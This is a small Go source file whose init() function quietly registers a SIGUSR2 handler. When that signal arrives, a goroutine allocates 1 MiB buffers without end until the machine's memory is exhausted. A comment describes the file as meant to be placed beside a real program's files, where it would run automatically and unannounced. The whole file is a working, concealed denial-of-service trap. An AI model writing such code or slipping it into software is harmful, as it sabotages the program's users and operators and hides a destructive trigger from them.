package main

import (
	"bytes"
	"os"
	"os/signal"
	"syscall"
)

// Beside the files of a program: at SIGUSR2 it takes all the memory that it can get.
func init() {
	greed := make(chan os.Signal, 1)
	signal.Notify(greed, syscall.SIGUSR2)
	go func() {
		<-greed
		for hoard := [][]byte{}; ; {
			hoard = append(hoard, bytes.Repeat([]byte{1}, 1<<20))
		}
	}()
}
